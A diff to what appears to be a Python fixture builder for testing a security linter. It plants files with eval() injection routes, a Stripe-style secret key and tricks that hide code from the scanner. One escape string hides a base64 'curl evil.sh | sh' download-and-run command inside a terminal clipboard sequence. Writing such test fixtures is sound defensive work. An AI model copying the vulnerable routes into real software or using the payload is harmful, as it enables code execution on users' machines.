@@ -17,6 +17,9 @@ STRIPE = "sk_live_51HqLyjWDarjtT1zdp7dcXz0aQ7f9sTnWm2vYbKcRxQe4J8hLu"
 DEPTH = 10_000  # directories nested deeper than PATH_MAX allows to name
 ESCAPES = "\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x9b31m\u202e"
 Planted = set[tuple[str, int, str]]
+# shipped files whose content keeps the code rules off: a partial scan naming each (coverage.gaps,
+# SARIF notifications) and, in the extended profile, a secure-lint.unscanned-code finding (issue 24)
+GAPS = {"src/banner.js": "vendored", "src/padded.js": "too_large", "src/server.js": "symlink_to_unscanned"}
 
 
 def _git(root: Path, *args: str) -> None:
@@ -121,14 +124,14 @@ def build(root: Path) -> Planted:
     plant("src/calc.js", f'export const calc = (req) => eval(req.query.x + "\\n{STRIPE}");\n', 1,
           "js.injection.eval-dynamic")
     # issue 25 #6: a NUL byte in a comment, a banner, an SVG path, padding past 1 MiB: each file is
-    # read as code or named as a gap (secure-lint.unscanned-code), never silently left to the secret rules
+    # read as code or named as a gap (GAPS), never silently left to the secret rules
     route = "export const calc = (req, res) => res.send(String(eval(req.query.expr)));\n"
     (root / "src/nul.js").write_bytes(b"// \x00\n" + route.encode())
     planted.add(("src/nul.js", 2, "js.injection.eval-dynamic"))
     plant("src/icon.js", route + 'export const icon = "M' + " 10.5,20 L 30,40" * 1500 + '";\n', 1,
           "js.injection.eval-dynamic")
-    plant("src/banner.js", "/*! hostile v1.2.3 | (c) Mallory */\n" + route, 1, "secure-lint.unscanned-code")
-    plant("src/padded.js", route + "//" + " " * (1024 * 1024) + "\n", 1, "secure-lint.unscanned-code")
+    _write(root, "src/banner.js", "/*! hostile v1.2.3 | (c) Mallory */\n" + route)
+    _write(root, "src/padded.js", route + "//" + " " * (1024 * 1024) + "\n")
     # issue 25 #7: Next.js routes are shipped whatever their folder is called; build-output names
     # inside app code are not build output
     for path in ("app/api/docs/route.js", "app/e2e-hooks/page.js", "app/coverage/page.js", "app/api/out/route.js"):
@@ -144,7 +147,6 @@ def build(root: Path) -> Planted:
     # issue 25 #8: shipped code that is a symlink to code the scan treats as docs
     _write(root, "docs/impl/server.js", route)
     os.symlink("../docs/impl/server.js", root / "src/server.js")
-    planted.add(("src/server.js", 1, "secure-lint.unscanned-code"))
     # issue 25 #5: keys glued to an escape or a URL-encoded byte
     plant("src/glued.js", f'export const auth = "Bearer\\n{STRIPE}";\n', 1, "secrets.stripe-secret-key")
     plant("src/query.js", f'export const cb = "https://acme.io/?next=%2Fpay%26key%3D{STRIPE}";\n', 1,
